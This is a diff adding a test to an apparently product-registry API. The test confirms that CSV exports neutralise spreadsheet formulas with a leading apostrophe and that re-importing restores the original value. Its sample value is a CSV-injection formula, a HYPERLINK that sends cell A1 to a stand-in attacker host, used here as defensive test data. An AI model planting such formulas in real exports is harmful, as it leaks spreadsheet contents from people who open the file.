@@ -281,3 +281,32 @@ def test_fuzzed_uploads_get_a_report_or_a_4xx(client, auth) -> None:
             assert all(error["message"] for error in report["errors"])
         else:
             assert body["status"] == -2 and body["message"]
+
+
+def test_a_csv_export_opens_formulas_as_text_and_imports_them_back(client, auth) -> None:
+    """A registered value a spreadsheet would run (CSV injection) is exported led by the
+    apostrophe that makes it text, and the export imports back to the very same value."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    sample = _rows_of_csv(SAMPLE.read_bytes())
+    header, row = sample[0], list(sample[1])
+    row[header.index("产品名称")] = formula
+    upload = io.StringIO()
+    csv.writer(upload).writerows([header, row])
+    done = _finished(client, auth, _import(client, auth, upload.getvalue().encode()))
+    assert (done["registered"], done["failed"]) == (1, 0), done
+
+    exported = client.get(f"{BASE}/export", params={**QUERY}, headers=auth)
+    assert exported.status_code == 200, exported.text
+    rows = _rows_of_csv(exported.content)
+    column = rows[0].index("产品名称")
+    assert rows[1][0] == row[0] and rows[1][column] == "'" + formula
+    assert not any(cell.startswith("=") for line in rows for cell in line)
+
+    # The export, under a new suffix, registers the value as it was, apostrophe and all gone.
+    rows[1][0] = "P2026-AGAIN"
+    again = io.StringIO()
+    csv.writer(again).writerows([rows[0], rows[1]])
+    done = _finished(client, auth, _import(client, auth, again.getvalue().encode()))
+    assert (done["registered"], done["failed"]) == (1, 0), done
+    record = client.get("/api/handles/88.118.8/P2026-AGAIN").json()
+    assert formula in [value["data"]["value"] for value in record["values"]]
